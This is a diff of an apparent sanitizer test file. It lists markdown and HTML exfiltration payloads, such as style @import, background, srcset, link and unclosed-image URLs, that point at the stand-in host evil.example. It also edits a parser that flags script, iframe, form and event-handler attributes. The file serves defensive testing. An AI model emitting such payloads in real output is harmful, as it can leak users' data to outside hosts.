@@ -49,7 +49,7 @@ EXFILTRATION = {
     "style element": "<style>@import 'https://evil.example/a.css?hello';</style>",
     "background": "<td background=https://evil.example/x?hello>",
     "srcset": '<a srcset="https://evil.example/x?hello 2x">',
-    "link element": '<link rel=stylesheet href="https://evil.example/x">',
+    "link element": f'<link rel=stylesheet href="{SECRET_URL}">',
     "protocol relative": "![x](//evil.example/p?hello)",
     "backslashes": r"![x](https:\\evil.example\p?hello)",
     "unclosed tag": '<img src="https://evil.example/?hello=',
@@ -156,8 +156,8 @@ class Fetches(HTMLParser):
         if tag in {"script", "style", "iframe", "form", "svg", "base", "meta", "link", "object", "input"}:
             self.found.append(tag)
         for name, value in attrs:
-            # A fence's info string is shown as a class, and the text of an image as text.
-            if (tag, name) in {("code", "class"), ("img", "alt")}:
+            # A fence's info string is shown as a class; a title and the text of an image are shown as text.
+            if name in {"alt", "title"} or (tag, name) == ("code", "class"):
                 continue
             if (
                 name.startswith("on")
